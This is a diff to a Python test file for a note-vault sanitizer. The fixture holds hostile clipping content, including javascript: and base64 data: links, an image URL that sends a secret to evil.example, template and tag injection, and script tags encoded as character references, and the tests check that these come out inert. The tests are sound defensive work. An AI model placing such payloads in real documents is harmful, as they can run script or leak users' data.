@@ -32,6 +32,9 @@ Click [here](javascript:alert(1)) or [there](data:text/html;base64,PHNjcmlwdD4=)
 ![exfil](https://evil.example/collect?data=SECRET) An image for the sorted string table that leaks data.
 
 %% a hidden comment about the sorted string table %% and #injected-tag and [[Some Note]] and = this.file.name.
+
+Written as character references, which kbd reads as their characters: &lt;script&gt;alert(3)&lt;/script&gt;,
+&lt;% tp.file.title %&gt;, &#91;&#91;Entity Note&#93;&#93; and &#35;entity-tag about the sorted string table.
 """
 OTHER = "---\ntitle: Other\n---\nThe sorted string table is immutable. A sorted string table is merged by compaction."
 
@@ -55,6 +58,8 @@ def test_hostile_clipping_yields_only_inert_notes(vault: Vault) -> None:
     assert "evil.example/collect" not in everything
     assert "#injected-tag" not in everything.replace("\\#", "")
     assert "[[Some Note" not in everything
+    assert "[[Entity Note" not in everything and "#entity-tag" not in everything.replace("\\#", "")
+    assert "Entity Note" in everything, "the references are read, as text"
 
 
 def test_sanitizer_neutralises_each_executable_form() -> None:
